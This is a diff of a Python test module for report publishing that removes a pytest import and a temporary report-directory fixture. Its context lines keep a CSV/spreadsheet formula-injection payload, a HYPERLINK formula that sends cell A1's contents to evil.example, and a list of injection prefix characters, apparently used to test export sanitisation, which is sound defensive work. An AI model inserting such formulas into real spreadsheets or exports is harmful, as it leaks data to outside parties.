@@ -4,8 +4,6 @@ import csv
 import io
 import zipfile
 
-import pytest
-
 from consult.consultation.models import PositionValue
 from consult.consultation.services import set_position
 from consult.report.publishing.snapshot.services import publish_report
@@ -15,14 +13,6 @@ from tests.report_helpers import consulted_sections, contribute
 
 ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"clic")'
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
-
-
-@pytest.fixture
-def report_dir(app, tmp_path):
-    previous = app.config.get("REPORT_DIR")
-    app.config["REPORT_DIR"] = str(tmp_path / "reports")
-    yield tmp_path / "reports"
-    app.config["REPORT_DIR"] = previous
 
 
 def _cells(archive):
